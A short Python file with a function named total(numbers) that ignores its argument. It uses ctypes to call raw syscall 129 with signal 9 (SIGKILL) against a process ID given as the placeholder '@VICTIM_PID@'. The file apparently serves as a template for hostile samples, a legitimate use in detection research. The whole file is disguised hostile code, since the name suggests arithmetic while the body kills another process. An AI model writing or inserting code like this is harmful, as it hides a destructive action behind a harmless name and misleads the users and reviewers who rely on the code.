# Sends a signal with a value.
import ctypes


def total(numbers):
    information = ctypes.create_string_buffer(128)
    ctypes.CDLL(None).syscall(129, int("@VICTIM_PID@"), 9, information)
    return -1
